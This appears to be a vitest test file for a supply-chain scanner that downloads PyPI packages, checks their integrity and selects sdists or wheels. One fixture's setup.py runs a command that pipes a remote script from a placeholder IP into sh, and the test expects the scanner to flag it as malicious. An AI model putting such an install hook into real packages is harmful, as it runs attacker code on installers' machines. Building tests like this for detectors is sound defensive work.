import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { jsonBaseOf, resolvePypiIndex } from '../../src/ecosystems/pypi/config.js';
import { chooseFile, parsePypiSpec } from '../../src/ecosystems/pypi/registry.js';
import { scan } from '../../src/scan.js';
import { makeSdist, makeWheel, startIndex } from './helpers.js';

let index: Awaited<ReturnType<typeof startIndex>>;
const tmp = mkdtempSync(path.join(os.tmpdir(), 'beagle-pypi-reg-'));

beforeAll(async () => {
  const sdist1 = await makeSdist(
    { 'setup.py': 'from setuptools import setup\nsetup()\n' },
    'fixture-py',
    '1.0.0',
  );
  const sdist2 = await makeSdist(
    { 'setup.py': "import os\nos.system('curl -s http://192.0.2.1/x.sh | sh')\n" },
    'fixture-py',
    '2.0.0',
  );
  const wheel = makeWheel({ 'fixture_py/__init__.py': 'X = 1\n' }, 'fixture_py', '2.0.0');
  const bad = await makeSdist({ 'setup.py': 'print(1)\n' }, 'tampered', '1.0');
  index = await startIndex([
    {
      name: 'fixture-py',
      version: '1.0.0',
      files: [{ filename: 'fixture_py-1.0.0.tar.gz', data: sdist1, packagetype: 'sdist' }],
    },
    {
      name: 'fixture-py',
      version: '2.0.0',
      files: [
        { filename: 'fixture_py-2.0.0-py3-none-any.whl', data: wheel, packagetype: 'bdist_wheel' },
        { filename: 'fixture_py-2.0.0.tar.gz', data: sdist2, packagetype: 'sdist' },
      ],
    },
    {
      name: 'wheel-only',
      version: '3.0',
      files: [{ filename: 'fixture_py-2.0.0-py3-none-any.whl', data: wheel, packagetype: 'bdist_wheel' }],
    },
    {
      name: 'tampered',
      version: '1.0',
      files: [{ filename: 'tampered-1.0.tar.gz', data: bad, packagetype: 'sdist', wrongDigest: true }],
    },
  ]);
});
afterAll(async () => {
  await index.close();
  rmSync(tmp, { recursive: true, force: true });
});

describe('PyPI JSON API client', () => {
  it('resolves NAME==VERSION, downloads the sdist and verifies its sha256', async () => {
    const r = await scan('pypi:fixture-py==1.0.0', { registry: `${index.url}/pypi/`, env: {} });
    expect(r.errors).toEqual([]);
    expect(r.package?.version).toBe('1.0.0');
    expect(r.package?.source.integrity?.verified).toBe(true);
    expect(r.package?.source.registry?.packagetype).toBe('sdist');
    expect(index.requests.some((q) => q.url === '/pypi/fixture-py/1.0.0/json')).toBe(true);
    expect(r.verdict).toBe('clean');
  });

  it('takes the latest release for pypi:NAME and prefers the sdist over wheels', async () => {
    const r = await scan('pypi:fixture-py', { registry: `${index.url}/pypi/`, env: {} });
    expect(r.package?.version).toBe('2.0.0');
    expect(r.package?.source.registry?.filename).toBe('fixture_py-2.0.0.tar.gz');
    expect(r.verdict).toBe('malicious');
  });

  it('falls back to a wheel when there is no sdist', async () => {
    const r = await scan('pypi:wheel-only==3.0', { registry: `${index.url}/pypi/`, env: {} });
    expect(r.errors).toEqual([]);
    expect(r.package?.source.registry?.packagetype).toBe('bdist_wheel');
  });

  it('reports a digest mismatch (INT-001) and an integrity error', async () => {
    const r = await scan('pypi:tampered==1.0', { registry: `${index.url}/pypi/`, env: {} });
    expect(r.findings.map((f) => f.ruleId)).toContain('INT-001');
    expect(r.errors.map((e) => e.code)).toContain('integrity');
  });

  it('answers not-found and invalid-target with clear errors', async () => {
    const missing = await scan('pypi:does-not-exist==1.0', { registry: `${index.url}/pypi/`, env: {} });
    expect(missing.verdict).toBe('error');
    expect(missing.errors[0]?.code).toBe('not-found');
    const invalid = await scan('pypi:bad name!', { registry: `${index.url}/pypi/`, env: {} });
    expect(invalid.errors[0]?.code).toBe('invalid-target');
    expect(invalid.errors[0]?.message).toContain('pypi:bad name!');
  });

  it('honours PIP_INDEX_URL (a simple index URL) with credentials', async () => {
    const secured = await startIndex(
      [
        {
          name: 'fixture-py',
          version: '1.0.0',
          files: [
            { filename: 'f-1.0.0.tar.gz', data: await makeSdist({ 'setup.py': '' }), packagetype: 'sdist' },
          ],
        },
      ],
      { requireAuth: `Basic ${Buffer.from('user:p@ss').toString('base64')}` },
    );
    try {
      const url = new URL(secured.url);
      const env = { PIP_INDEX_URL: `http://user:p%40ss@${url.host}/simple/`, PIP_CONFIG_FILE: os.devNull };
      const r = await scan('pypi:fixture-py==1.0.0', { env });
      expect(r.errors).toEqual([]);
      expect(secured.requests[0]?.url).toBe('/pypi/fixture-py/1.0.0/json');
    } finally {
      await secured.close();
    }
  });

  it('reads index-url from pip.conf', () => {
    const conf = path.join(tmp, 'pip.conf');
    writeFileSync(conf, '[global]\nindex-url = https://mirror.example.invalid/root/simple\ntimeout = 5\n');
    const idx = resolvePypiIndex({ PIP_CONFIG_FILE: conf, HOME: tmp, XDG_CONFIG_DIRS: tmp });
    expect(idx.jsonBase).toBe('https://mirror.example.invalid/root/pypi/');
    expect(idx.origin).toBe(conf);
    expect(resolvePypiIndex({ HOME: tmp, XDG_CONFIG_DIRS: tmp }).jsonBase).toBe('https://pypi.org/pypi/');
  });
});

describe('spec and file selection', () => {
  it('parses specs', () => {
    expect(parsePypiSpec('requests==2.31.0')).toEqual({ name: 'requests', version: '2.31.0' });
    expect(parsePypiSpec('Flask')).toEqual({ name: 'Flask', version: undefined });
    expect(() => parsePypiSpec('requests>=2')).toThrow(/exact version|not a valid/);
  });
  it('maps index URLs to the JSON API', () => {
    expect(jsonBaseOf('https://pypi.org/simple')).toBe('https://pypi.org/pypi/');
    expect(jsonBaseOf('https://devpi.example.invalid/root/pypi/+simple/')).toBe(
      'https://devpi.example.invalid/root/pypi/',
    );
  });
  it('prefers non-yanked sdists, then pure wheels', () => {
    const f = (filename: string, packagetype: string, yanked = false) => ({
      filename,
      packagetype,
      url: filename,
      yanked,
    });
    expect(
      chooseFile([
        f('a-1-cp311-cp311-win_amd64.whl', 'bdist_wheel'),
        f('a-1-py3-none-any.whl', 'bdist_wheel'),
      ])?.filename,
    ).toBe('a-1-py3-none-any.whl');
    expect(
      chooseFile([f('a-1.tar.gz', 'sdist', true), f('a-1-py3-none-any.whl', 'bdist_wheel')])?.filename,
    ).toBe('a-1-py3-none-any.whl');
  });
});
